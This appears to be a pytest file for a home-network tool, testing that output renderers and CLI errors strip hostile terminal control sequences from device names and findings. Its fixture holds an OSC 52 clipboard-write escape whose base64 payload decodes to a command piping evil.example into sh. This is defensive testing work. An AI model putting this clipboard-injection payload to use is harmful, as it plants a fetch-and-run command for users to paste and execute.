"""Hostile text never reaches the terminal raw (issue 14 item 5).

A device that names itself with an OSC 52 clipboard write, ANSI colours and
a carriage return followed by a fake "CALL 555-0100" line, and a probe whose
finding summary carries the same: every renderer shows the words and none
of the control sequences.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from homecare.models import (
    Device,
    DevicesData,
    Finding,
    Observation,
    ProbeStatus,
    Segment,
    Severity,
)
from homecare.render.base import RenderOptions
from homecare.render.console import ConsoleRenderer
from homecare.render.markdown import MarkdownRenderer
from homecare.render.plain import PlainRenderer
from homecare.render.sanitize import clean_block, clean_text, for_html, for_markdown_cell

from ..factories import sample_report

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HOSTILE = f"{OSC52}Printer\x1b[8m hidden\x1b[0m\r\nCALL 555-0100\x9b2J\u202eevil"
#: Escape sequences rich itself writes for colour: SGR only.
SGR = re.compile(r"\x1b\[[0-9;]*m")


def hostile_report() -> object:
    report = sample_report()
    devices = DevicesData(
        method="arp-sweep",
        subnet="192.168.1.0/24",
        devices=[
            Device(
                key="aa:bb:cc:00:00:01",
                mac="aa:bb:cc:00:00:01",
                ipv4=["192.168.1.7"],
                hostname=HOSTILE,
                model=HOSTILE,
                vendor=HOSTILE,
            )
        ],
    )
    finding = Finding(
        code="dns.failing",
        severity=Severity.CRITICAL,
        segment=Segment.ROUTER,
        summary=HOSTILE,
        evidence={HOSTILE: HOSTILE, "errors": [HOSTILE]},
    )
    obs = Observation(probe="devices", area="devices", status=ProbeStatus.OK, data=devices)
    return report.model_copy(
        update={"findings": [finding], "observations": [*report.observations, obs]}
    )


@pytest.mark.parametrize(
    ("renderer", "color"),
    [
        (ConsoleRenderer(), True),
        (ConsoleRenderer(), False),
        (PlainRenderer(), False),
        (MarkdownRenderer(), False),
    ],
)
def test_no_control_sequence_reaches_the_output(renderer: object, color: bool) -> None:
    out = io.StringIO()
    renderer.render(hostile_report(), RenderOptions(color=color, width=200), out)  # type: ignore[attr-defined]
    text = SGR.sub("", out.getvalue())
    assert "Printer" in text  # the words are shown ...
    for bad in ("\x1b", "\x07", "\r", "\x9b", "\u202e", "]52;"):
        assert bad not in text, (bad, text)
    # ... and the fake line never starts a line of its own
    assert not any(line.lstrip(" |#-*").startswith("CALL") for line in text.splitlines())


def test_the_cleaners() -> None:
    assert clean_text(HOSTILE) == "Printer hidden CALL 555-0100evil"
    assert clean_block("a\r\nb\tc") == "a\nb c"
    assert for_html('<b onclick="x">' + OSC52) == "&lt;b onclick=&quot;x&quot;&gt;"
    assert for_markdown_cell("a|b\nc") == "a\\|b c"
    assert clean_text("Café 東京 ✔") == "Café 東京 ✔"  # printable Unicode stays


def test_cli_error_lines_are_cleaned(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    proc = subprocess.run(
        [sys.executable, "-m", "homecare", "history", "show", OSC52 + "abc\rCALL 555-0100"],
        env={**os.environ, "HOMECARE_HOME": str(tmp_path), "HOMECARE_LANG": "en"},
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert proc.returncode == 2
    assert "\x1b" not in proc.stderr and "\r" not in proc.stderr and "\x07" not in proc.stderr
    assert len(proc.stderr.splitlines()) == 1 and "abcCALL 555-0100" in proc.stderr


_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=300))
def test_cleaned_text_never_holds_a_control_character(text: str) -> None:
    line = clean_text(text)
    block = clean_block(text)
    assert not _FORBIDDEN.search(line) and "\n" not in line and "\t" not in line
    assert not _FORBIDDEN.search(block.replace("\n", ""))
    assert clean_text(line) == line and clean_block(block) == block  # idempotent
